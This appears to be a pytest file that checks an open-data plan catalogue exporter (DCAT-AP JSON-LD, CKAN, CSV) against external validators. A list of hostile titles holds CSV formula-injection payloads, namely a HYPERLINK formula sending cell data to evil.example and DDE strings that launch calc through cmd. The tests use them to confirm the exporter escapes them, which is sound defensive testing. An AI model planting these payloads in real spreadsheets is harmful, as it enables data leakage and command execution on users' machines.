"""The catalogue as validators we did not write take it: DCAT-AP 3.0.1 shapes (pyshacl), rdflib, CKAN's
name rules, frictionless and LibreOffice reading datasets.csv; on the example plan, a French plan, a plan
mixing both, and a plan of hostile titles."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import frictionless
import openpyxl
import pyshacl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rdflib import RDF, Graph, Literal, Namespace, URIRef
from rdflib.namespace import DCAT, DCTERMS, FOAF, SKOS

from odplan_xl.app.national import datasets, national
from odplan_xl.coordinator import catalogue
from odplan_xl.workbook.example import example_data
from odplan_xl.workbook.template import build_workbook

# the mixed plan names a format on purpose that no table knows: warned of (tested below), not an error
pytestmark = pytest.mark.filterwarnings("ignore::odplan_xl.coordinator.catalogue.UnknownFormat")

SHAPES = Path(__file__).parent / "shapes" / "dcat-ap-3.0.1.ttl"
ADMS = Namespace("http://www.w3.org/ns/adms#")
VCARD = Namespace("http://www.w3.org/2006/vcard/ns#")
FILE_TYPE = "http://publications.europa.eu/resource/authority/file-type/"

# titles an officer may type that a spreadsheet would run
HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"انقر هنا")', "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+2", "＝1+1", "2027", "«ميزانية» \"الدولة\", 2027")

FRENCH = {
    "structure": "Ministère de l'Équipement et de l'Habitat",
    "titles": ("Budget de l'État 2027 — données détaillées", "Liste des projets routiers en cours",
               "Permis de bâtir délivrés", "Marchés publics attribués"),
    "producer": "Direction générale des ponts et chaussées",
}
FORMATS = ("GeoJSON", "shp", "Shapefile", "kml", "GeoPackage", "JSON-LD", "rdf", "XML", "ods", "zip", "API",
           "csv, json", "Format inconnu XYZ")


def _plan(kind: str) -> dict:
    data = example_data()
    rows = data["sections"]["datasets"]
    if kind == "french":
        data["cover"]["structure"] = FRENCH["structure"]
        data["cover"]["officer"] = "Sonia Ben Omar"
        for k, row in enumerate(rows):
            row["title"] = f"{FRENCH['titles'][k % 4]} ({k + 1})"
            row["description"] = "Données ouvertes publiées chaque trimestre"
            row["producer"] = FRENCH["producer"]
    elif kind == "mixed":
        data["cover"]["structure"] = "وزارة الصحة Ministère de la Santé"
        for k, row in enumerate(rows):
            if k % 2:
                row["title"] = f"{FRENCH['titles'][k % 4]} {k}"
            row["format"] = FORMATS[k % len(FORMATS)]
            row["channel"] = "بوابة الهيكل" if k % 3 == 0 else row["channel"]
    elif kind == "hostile":
        data["cover"]["structure"] = "=بلدية تونس"
        data["cover"]["officer_email"] = "=cmd|' /C calc'!A0"
        for k, row in enumerate(rows[: len(HOSTILE)]):
            row["title"] = HOSTILE[k]
            row["description"] = HOSTILE[-1 - k]
            row["producer"] = "@إدارة"
    return data


KINDS = ("example", "french", "mixed", "hostile")


@pytest.fixture(scope="module")
def plans(tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("catalogue_plans")
    return {kind: build_workbook(root / f"{kind}.xlsx", _plan(kind)) for kind in KINDS}


@pytest.fixture(scope="module")
def outputs(plans, tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("catalogue_out")
    return {kind: datasets(path, out / f"{kind}.jsonld") for kind, path in plans.items()}


@pytest.fixture(scope="module")
def shapes() -> Graph:
    return Graph().parse(SHAPES)


def _graph(path: Path) -> Graph:
    return Graph().parse(path, format="json-ld")


def _validate(graph: Graph, shapes: Graph) -> tuple[bool, str]:
    conforms, _report, text = pyshacl.validate(graph, shacl_graph=shapes, inference="none",
                                               allow_warnings=False)
    return conforms, text


@pytest.mark.parametrize("kind", KINDS)
def test_every_plan_conforms_to_dcat_ap_301(outputs, shapes, kind):
    graph = _graph(outputs[kind])
    conforms, text = _validate(graph, shapes)
    assert conforms, text
    catalog = next(graph.subjects(RDF.type, DCAT.Catalog))
    assert (catalog, DCTERMS.conformsTo, URIRef(catalogue.DCAT_AP)) in graph
    assert len(set(graph.subjects(RDF.type, DCAT.Dataset))) >= 10


def _mutated(graph: Graph, drop=(), replace=()) -> Graph:
    g = Graph()
    for triple in graph:
        if any(all(p is None or p == t for p, t in zip(pattern, triple, strict=True)) for pattern in drop):
            continue
        s, p, o = triple
        for old, new in replace:
            o = new if o == old else o
        g.add((s, p, o))
    return g


def test_the_shapes_reject_what_dcat_ap_does_not_allow(outputs, shapes):
    """The shapes can fail: each breach of the specification's tables is a violation."""
    graph = _graph(outputs["mixed"])
    dist = next(graph.subjects(RDF.type, DCAT.Distribution))
    url = graph.value(dist, DCAT.accessURL)
    breaches = {
        "frequency not typed dct:Frequency": _mutated(graph, drop=[(None, RDF.type, DCTERMS.Frequency)]),
        "language not typed": _mutated(graph, drop=[(None, RDF.type, DCTERMS.LinguisticSystem)]),
        "format not typed": _mutated(graph, drop=[(None, RDF.type, DCTERMS.MediaTypeOrExtent)]),
        "status not a concept": _mutated(graph, drop=[(URIRef(catalogue.DEVELOP), RDF.type, SKOS.Concept)]),
        "no dataset title": _mutated(graph, drop=[(None, DCTERMS.title, None)]),
        "no profile named": _mutated(graph, drop=[(None, DCTERMS.conformsTo, URIRef(catalogue.DCAT_AP))]),
        "access URL a urn": _mutated(graph, replace=[(url, URIRef("urn:uuid:0b0e0f"))]),
        "publisher without a name": _mutated(graph, drop=[(None, FOAF.name, None)]),
        "file type outside the table": _mutated(graph, replace=[(URIRef(FILE_TYPE + "CSV"),
                                                                 URIRef(FILE_TYPE + "CSVX"))]),
    }
    for name, broken in breaches.items():
        conforms, _text = _validate(broken, shapes)
        assert not conforms, name


def test_access_urls_are_web_addresses_never_the_dataset_urn(outputs):
    for kind in KINDS:
        graph = _graph(outputs[kind])
        for dist in graph.subjects(RDF.type, DCAT.Distribution):
            urls = list(graph.objects(dist, DCAT.accessURL))
            assert urls and all(str(u).startswith("https://") for u in urls), kind


def test_literals_carry_the_language_of_their_script(outputs):
    graph = _graph(outputs["mixed"])
    seen = set()
    for ds in graph.subjects(RDF.type, DCAT.Dataset):
        title = graph.value(ds, DCTERMS.title)
        arabic = bool(re.search("[\u0600-\u06ff]", title))
        latin = bool(re.search("[A-Za-zÀ-ÿ]", title))
        want = "ar" if arabic and not latin else "fr" if latin and not arabic else title.language
        assert title.language == want, str(title)
        language = graph.value(ds, DCTERMS.language)
        assert str(language).endswith({"ar": "ARA", "fr": "FRA"}[title.language])
        seen.add(title.language)
    assert seen == {"ar", "fr"}
    french = _graph(outputs["french"])
    for ds in french.subjects(RDF.type, DCAT.Dataset):
        assert graph is not None and french.value(ds, DCTERMS.title).language == "fr"
        assert french.value(ds, DCTERMS.description).language == "fr"
    hostile = _graph(outputs["hostile"])
    digits = [t for t in hostile.objects(None, DCTERMS.title) if str(t) == "2027"]
    assert digits and all(t.language is None for t in digits)


@pytest.mark.parametrize(("text", "tag"), [
    ("وزارة الصحة", "ar"), ("Budget de l'État 2027 — données détaillées", "fr"), ("2027", None), ("", None),
    ("ميزانية الدولة Budget", "ar"), ("Budget de l'État ميزانية", "fr"), ("١٢٣", None), ("— 12,5 % —", None),
])
def test_language_of_a_text(text, tag):
    assert catalogue.language(text) == tag


def test_a_planned_date_is_dct_available_never_dct_issued(outputs, plans):
    graph = _graph(outputs["example"])
    assert not list(graph.subject_objects(DCTERMS.issued))
    dates = [o for o in graph.objects(None, DCTERMS.available)]
    assert dates and all(isinstance(d, Literal) and d.datatype == URIRef("http://www.w3.org/2001/XMLSchema#date")
                         for d in dates)


def test_contact_point_and_theme_from_the_plan(outputs):
    graph = _graph(outputs["example"])
    data = example_data()["cover"]
    for ds in graph.subjects(RDF.type, DCAT.Dataset):
        contact = graph.value(ds, DCAT.contactPoint)
        assert (contact, RDF.type, VCARD.Kind) in graph
        assert str(graph.value(contact, VCARD.fn)) == data["officer"]
        assert str(graph.value(contact, VCARD.hasEmail)) == f"mailto:{data['officer_email']}"
        assert str(graph.value(contact, VCARD.hasTelephone)) == "tel:+21671000123"
        assert graph.value(ds, DCAT.theme) is not None


@pytest.mark.parametrize(("typed", "code"), [
    ("GeoJSON", "GEOJSON"), ("geojson", "GEOJSON"), ("Geo JSON", "GEOJSON"), ("SHP", "SHP"), ("shapefile", "SHP"),
    ("KML", "KML"), ("gpkg", "GPKG"), ("GeoPackage", "GPKG"), ("JSON-LD", "JSON_LD"), ("jsonld", "JSON_LD"),
    ("RDF", "RDF"), ("RDF/XML", "RDF_XML"), ("xml", "XML"), ("ODS", "ODS"), ("Zip", "ZIP"), (".csv", "CSV"),
    ("Excel", "XLSX"), ("xlsx", "XLSX"), ("PDF", "PDF"),
])
def test_formats_officers_name_map_to_the_eu_file_type_table(typed, code):
    found, unknown = catalogue.formats(typed)
    assert [f.code for f in found] == [code] and unknown == []


def test_an_api_is_a_data_service_and_an_unknown_format_a_warning(outputs, tmp_path):
    graph = _graph(outputs["mixed"])
    services = list(graph.subjects(RDF.type, DCAT.DataService))
    assert services
    for service in services:
        assert graph.value(service, DCAT.endpointURL) is not None
        dist = next(graph.subjects(DCAT.accessService, service))
        ds = graph.value(service, DCAT.servesDataset)
        assert (ds, DCAT.distribution, dist) in graph
    items = catalogue.entries_of(2027, "وزارة", [{"title": "x", "format": "Format inconnu XYZ"},
                                                  {"title": "y", "format": "أخرى"}, {"title": "z", "format": "API"}])
    assert catalogue.unknown_formats(items) == [("وزارة", "x", "Format inconnu XYZ")]
    doc = catalogue.jsonld(items)
    dists = [d for ds in doc["@graph"][0]["dcat:dataset"] for d in ds["dcat:distribution"]]
    assert all("dct:format" not in d for d in dists)
    assert "dcat:accessService" in dists[2]


# --- CKAN ---------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def national_run(plans, tmp_path_factory):
    """One national run over the four plans plus copies of the example whose body is written with
    harakat, another hamza and extra spaces."""
    inbox = tmp_path_factory.mktemp("catalogue_inbox")
    for kind, path in plans.items():
        shutil.copy(path, inbox / path.name)
    for k, name in enumerate(("وِزَارَةُ التَّجْهِيزِ وَالإِسْكَانِ", "وزارة  التجهيز والاسكان ")):
        data = _plan("example")
        data["cover"]["structure"] = name
        for row in data["sections"]["datasets"]:
            row["title"] = f"{row['title']} {k}"
        build_workbook(inbox / f"variant_{k}.xlsx", data)
    out = tmp_path_factory.mktemp("catalogue_national")
    result = national([inbox], out, jobs=2)
    return result, out


CKAN_NAME = re.compile(r"[a-z0-9_-]{2,100}")


def test_ckan_organisations_exist_for_every_package_one_per_body(national_run):
    _result, out = national_run
    orgs = [json.loads(line) for line in (out / "organizations.ckan.jsonl").read_text(encoding="utf-8").splitlines()]
    packages = [json.loads(line) for line in (out / "datasets.ckan.jsonl").read_text(encoding="utf-8").splitlines()]
    names = [o["name"] for o in orgs]
    assert all(CKAN_NAME.fullmatch(n) for n in names) and len(set(names)) == len(names)
    assert all(o["title"] for o in orgs)
    # the ministry three ways (plain, harakat, another hamza and spaces), the French, mixed, hostile bodies
    assert len(orgs) == 4
    assert {p["owner_org"] for p in packages} == set(names)
    names = [p["name"] for p in packages]
    assert all(CKAN_NAME.fullmatch(n) for n in names) and len(set(names)) == len(names)
    for p in packages:
        for extra in p["extras"]:
            assert re.match(r"^(https?|urn):", extra["value"]), extra
        assert len({e["key"] for e in p["extras"]}) == len(p["extras"])
        for resource in p["resources"]:
            assert "url" not in resource or resource["url"].startswith("https://")
            assert resource["url"] if "url" in resource else True
        for tag in p["tags"]:
            assert re.fullmatch(r"[\w .-]{2,100}", tag["name"])


@given(st.text(min_size=0, max_size=120))
@settings(max_examples=300, deadline=None)
def test_ckan_names_are_valid_whatever_the_title(title):
    items = catalogue.entries_of(2027, title or "هيكل", [{"title": title or "x"}])
    for e in items:
        assert CKAN_NAME.fullmatch(e.ckan_name) and CKAN_NAME.fullmatch(e.org)


def test_same_body_however_written_is_one_organisation():
    keys = {catalogue.name_key(n) for n in ("وزارة التجهيز والإسكان", "وِزَارَةُ التَّجْهِيزِ وَالإِسْكَانِ",
                                            "وزارة  التجهيز والاسكان ", "وزارة التجهيز والأسكان")}
    assert len(keys) == 1
    assert catalogue.name_key("وزارة الصحة") != catalogue.name_key("وزارة المالية")


# --- CSV -----------------------------------------------------------------------------------------------

RUNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _csv_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


def test_csv_has_no_cell_a_spreadsheet_would_run(plans, tmp_path):
    path = datasets(plans["hostile"], tmp_path / "hostile.csv")
    rows = _csv_rows(path)
    titles = [r["title"] for r in rows]
    for hostile in HOSTILE:          # the plan's reader trims the text; the CSV keeps all of it
        typed = " ".join(hostile.split())
        assert (("'" + typed) if typed.startswith(RUNS) else typed) in titles
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(RUNS), value


def _libreoffice_cells(path: Path, outdir: Path) -> list:
    """The cells LibreOffice makes of a CSV file (formulas evaluated, as when a person opens it)."""
    soffice = shutil.which("soffice")
    if not soffice:
        pytest.skip("LibreOffice not installed")
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{outdir}/profile",
                    "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
                    "--convert-to", "xlsx", "--outdir", str(outdir), str(path)],
                   check=True, capture_output=True, timeout=180)
    wb = openpyxl.load_workbook(outdir / (path.stem + ".xlsx"))
    return [c for row in wb.active.iter_rows() for c in row]


def test_libreoffice_reads_every_csv_cell_as_text(plans, tmp_path):
    path = datasets(plans["hostile"], tmp_path / "hostile.csv")
    cells = _libreoffice_cells(path, tmp_path / "lo")
    assert cells and [c.coordinate for c in cells if c.data_type == "f"] == []
    # the same rows without the guard: LibreOffice runs them (the check above can fail)
    raw = tmp_path / "raw.csv"
    items = catalogue.entries_of(2027, "هيكل", [{"title": t} for t in HOSTILE])
    with raw.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(catalogue.csv_rows(items))
    assert any(c.data_type == "f" for c in _libreoffice_cells(raw, tmp_path / "lo_raw"))


@given(st.text(max_size=40))
@settings(max_examples=500, deadline=None)
def test_spreadsheet_text_never_starts_a_formula(text):
    safe = catalogue.spreadsheet_text(text)
    assert not safe.lstrip(" \u00a0").startswith(RUNS)
    assert safe in (text, "'" + text)


SCHEMA = {"fields": [
    {"name": "identifier", "type": "string", "constraints": {"required": True, "unique": True,
                                                            "pattern": "[0-9a-f-]{36}"}},
    {"name": "publisher", "type": "string", "constraints": {"required": True}},
    {"name": "title", "type": "string", "constraints": {"required": True}},
    {"name": "description", "type": "string"}, {"name": "producer", "type": "string"},
    {"name": "format", "type": "string"}, {"name": "format_uri", "type": "string"},
    {"name": "planned_date", "type": "date"}, {"name": "frequency", "type": "string"},
    {"name": "frequency_uri", "type": "string"},
    {"name": "priority", "type": "integer", "constraints": {"minimum": 0, "maximum": 4}},
    {"name": "channel", "type": "string"}, {"name": "access_url", "type": "string"},
    {"name": "theme_uri", "type": "string"}, {"name": "contact_name", "type": "string"},
    {"name": "contact_email", "type": "string"},
    {"name": "ckan_name", "type": "string", "constraints": {"required": True, "unique": True,
                                                           "pattern": "[a-z0-9_-]{2,100}"}},
    {"name": "owner_org", "type": "string", "constraints": {"required": True, "pattern": "[a-z0-9_-]{2,100}"}},
]}


@pytest.mark.parametrize("kind", KINDS)
def test_frictionless_validates_the_csv(plans, tmp_path, kind):
    path = datasets(plans[kind], tmp_path / f"{kind}.csv")
    resource = frictionless.Resource(path=path.name, basepath=str(tmp_path), encoding="utf-8-sig",
                                     schema=frictionless.Schema.from_descriptor(SCHEMA))
    report = resource.validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    inferred = frictionless.validate(path.name, basepath=str(tmp_path))
    assert inferred.valid, inferred.flatten(["rowNumber", "fieldName", "type", "note"])


def test_an_unknown_format_is_named_by_python_and_on_screen(plans, tmp_path):
    import subprocess
    import sys

    with pytest.warns(catalogue.UnknownFormat, match="Format inconnu XYZ"):
        datasets(plans["mixed"], tmp_path / "mixed.jsonld")
    res = subprocess.run([sys.executable, "-m", "odplan_xl.cli", "datasets", str(plans["mixed"]), "-o",
                          str(tmp_path / "mixed.csv")], capture_output=True, text=True, timeout=300)
    assert res.returncode == 0 and "«Format inconnu XYZ»" in res.stderr


def test_publishers_are_typed_when_their_name_says_which(outputs):
    graph = _graph(outputs["example"])
    kinds = {str(o) for o in graph.objects(None, DCTERMS.type)}
    assert kinds == {"http://purl.org/adms/publishertype/NationalAuthority"}      # وزارة …
    assert catalogue.publisher_type("بلدية صفاقس")[0] == "LocalAuthority"
    assert catalogue.publisher_type("الوكالة العقارية للسكنى") is None


def test_a_dataset_followed_up_as_published_is_completed(tmp_path, shapes):
    data = example_data()
    rows = data["sections"]["datasets"]
    rows[0]["progress"] = "منجز"
    rows[1]["progress"] = "بصدد الإنجاز"
    out = datasets(build_workbook(tmp_path / "followed.xlsx", data), tmp_path / "followed.jsonld")
    graph = _graph(out)
    assert _validate(graph, shapes)[0]
    status = {str(graph.value(ds, DCTERMS.title)): str(graph.value(graph.value(ds, DCAT.distribution), ADMS.status))
              for ds in graph.subjects(RDF.type, DCAT.Dataset)}
    assert status[rows[0]["title"]].endswith("/COMPLETED")
    assert status[rows[1]["title"]].endswith("/DEVELOP")
    assert sum(s.endswith("/COMPLETED") for s in status.values()) == 1
